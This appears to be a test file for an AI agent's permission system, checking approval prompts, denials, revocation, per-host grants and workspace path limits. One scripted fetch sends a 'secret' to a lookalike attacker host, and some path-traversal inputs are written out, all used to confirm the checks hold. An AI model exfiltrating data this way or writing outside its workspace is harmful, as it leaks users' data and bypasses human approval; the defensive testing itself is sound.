/** A turn waits for a yes before a call that acts or sends. */
import { describe, expect, it } from 'vitest'
import { testAgent, logSummary, sendAndSettle } from '../agent.fixture.ts'
import { scriptedCall, openedChat } from './run-turn.fixture.ts'

describe('permission', () => {
  const write = scriptedCall('write_file', { path: 'workspace/a.md', content: 'hello' }, 'c1')

  it('asks, waits, and goes on with the answer', async () => {
    const b = await openedChat([write, 'Written.'])
    expect(await sendAndSettle(b, b.id, 'Write it')).toMatchObject({
      state: 'asking',
      question: { tool: 'write_file', plan: { does: 'write', path: 'workspace/a.md', content: 'hello' } },
    })
    expect(await b.store.document('workspace/a.md')).toBeUndefined()
    b.events.length = 0
    await b.agent.resolvePermission(b.id, 'c1', 'allow')
    expect(await b.settled(b.id)).toEqual({ state: 'idle' })
    expect((await b.store.document('workspace/a.md'))?.text).toBe('hello')
  })

  it('waits over a reload, and the question is derived from the log', async () => {
    const b = await openedChat([write])
    await sendAndSettle(b, b.id, 'Write it')
    const again = testAgent(['Written.'], { store: b.store, prefix: 'n' })
    const { status } = await again.agent.open(b.id)
    expect(status).toMatchObject({ state: 'asking', question: { tool: 'write_file', call: { id: 'c1' } } })
    expect(await again.settled(b.id)).toMatchObject({ state: 'asking' })
    again.events.length = 0
    await again.agent.resolvePermission(b.id, 'c1', 'allow')
    await again.settled(b.id)
    expect((await b.store.document('workspace/a.md'))?.text).toBe('hello')
    expect(logSummary(await b.log(b.id)).at(-1)).toBe('assistant: Written.')
  })

  it('tells the model of a no, and does nothing', async () => {
    const b = await openedChat([write, 'All right.'])
    await sendAndSettle(b, b.id, 'Write it')
    b.events.length = 0
    await b.agent.resolvePermission(b.id, 'c1', 'deny')
    await b.settled(b.id)
    expect(logSummary(await b.log(b.id)).slice(2)).toEqual([
      'error write_file: The user denied this call. Do not try it again; find another way or ask.',
      'assistant: All right.',
    ])
    expect(await b.store.document('workspace/a.md')).toBeUndefined()
  })

  it('does not ask again where it was allowed for the chat, and can be taken back', async () => {
    const b = await openedChat([
      write,
      scriptedCall('write_file', { path: 'workspace/b.md', content: 'b' }, 'c1'),
      'Done.',
      scriptedCall('write_file', { path: 'workspace/c.md', content: 'c' }, 'c9'),
    ])
    await sendAndSettle(b, b.id, 'Write both')
    b.events.length = 0
    await b.agent.resolvePermission(b.id, 'c1', 'always here')
    expect(await b.settled(b.id)).toEqual({ state: 'idle' })
    expect(await b.agent.permissions()).toEqual([{ session: b.id, title: 'A chat', grant: 'write_file' }])
    await b.agent.revoke(b.id, 'write_file')
    expect(await sendAndSettle(b, b.id, 'And this')).toMatchObject({ state: 'asking' })
  })

  it('for good is for one host: a model cannot carry what it read to another one', async () => {
    const read = (url: string, id: string) => scriptedCall('fetch_url', { url }, id)
    const b = await openedChat([
      read('https://example.org/', 'c1'),
      read('https://EXAMPLE.org/more', 'c2'),
      read('https://example.org.evil.test/?told=secret', 'c3'),
      'Done.',
    ])
    await sendAndSettle(b, b.id, 'Read it')
    b.events.length = 0
    await b.agent.resolvePermission(b.id, 'c1', 'always here')
    expect(await b.settled(b.id)).toMatchObject({
      state: 'asking',
      question: { call: { id: 'c3' }, plan: { address: { host: 'example.org.evil.test' } } },
    })
    expect(await b.agent.permissions()).toEqual([{ session: b.id, title: 'A chat', grant: 'fetch_url example.org' }])
    b.events.length = 0
    await b.agent.resolvePermission(b.id, 'c3', 'deny')
    await b.settled(b.id)
    await b.agent.revoke(b.id, 'fetch_url example.org')
    expect(await b.agent.permissions()).toEqual([])
  })

  it('is good for one call only, although its id comes again in the next step', async () => {
    const b = await openedChat([write, scriptedCall('write_file', { path: 'workspace/b.md', content: 'b' }, 'c1')])
    await sendAndSettle(b, b.id, 'Write')
    b.events.length = 0
    await b.agent.resolvePermission(b.id, 'c1', 'allow')
    expect(await b.settled(b.id)).toMatchObject({
      state: 'asking',
      question: { plan: { path: 'workspace/b.md', content: 'b' } },
    })
  })

  it('is refused for a call that was answered already', async () => {
    const b = await openedChat([write, 'Fine.'])
    await sendAndSettle(b, b.id, 'Write')
    await b.agent.resolvePermission(b.id, 'c1', 'deny')
    await expect(b.agent.resolvePermission(b.id, 'c1', 'allow')).rejects.toThrow()
  })

  it('ends with a new message: the open call is closed, and nothing is written', async () => {
    const b = await openedChat([write, 'Something else, then.'])
    await sendAndSettle(b, b.id, 'Write it')
    await sendAndSettle(b, b.id, 'No, tell me a joke')
    expect(logSummary(await b.log(b.id)).slice(1)).toEqual([
      'assistant:  [write_file]',
      'error write_file: Not run: the user sent a new message instead.',
      'user: No, tell me a joke',
      'assistant: Something else, then.',
    ])
  })

  it('never lets a path leave the workspace', async () => {
    const b = await openedChat([
      scriptedCall('write_file', { path: '../x', content: '' }),
      scriptedCall('write_file', { path: 'workspace/../MEMORY.md', content: '' }),
      scriptedCall('write_file', { path: 'MEMORY.md', content: '' }),
      'No.',
    ])
    await b.store.updateSession(b.id, { allowed: ['write_file'] })
    await sendAndSettle(b, b.id, 'Write')
    expect((await b.log(b.id)).flatMap(entry => (entry.type === 'result' ? [entry.isError] : []))).toEqual([
      true,
      true,
      true,
    ])
    expect(await b.store.documents()).toEqual([])
  })
})
